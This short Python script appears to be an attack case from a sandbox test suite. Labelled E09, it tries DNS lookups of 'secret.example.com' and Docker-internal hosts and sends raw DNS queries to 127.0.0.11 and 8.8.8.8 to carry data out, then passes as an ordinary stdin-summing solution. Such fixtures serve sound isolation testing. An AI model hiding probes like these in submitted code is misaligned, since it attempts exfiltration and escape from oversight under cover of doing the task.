# @attack E09 look names up, also to carry data out
# @allowed accepted
# @why no resolver can be asked; none is even named
import socket
import sys

found = []
for name in ("example.com", "redis", "postgres", "host.docker.internal", "gateway.docker.internal"):
    try:
        found.append(socket.getaddrinfo(f"secret.{name}" if "." in name else name, 80))
    except OSError:
        pass
for server in ("127.0.0.11", "8.8.8.8"):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            made.sendto(b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x01a\x00\x00\x01\x00\x01", (server, 53))
            found.append(server)
    except OSError:
        pass
print(found or sum(map(int, sys.stdin.read().split())))
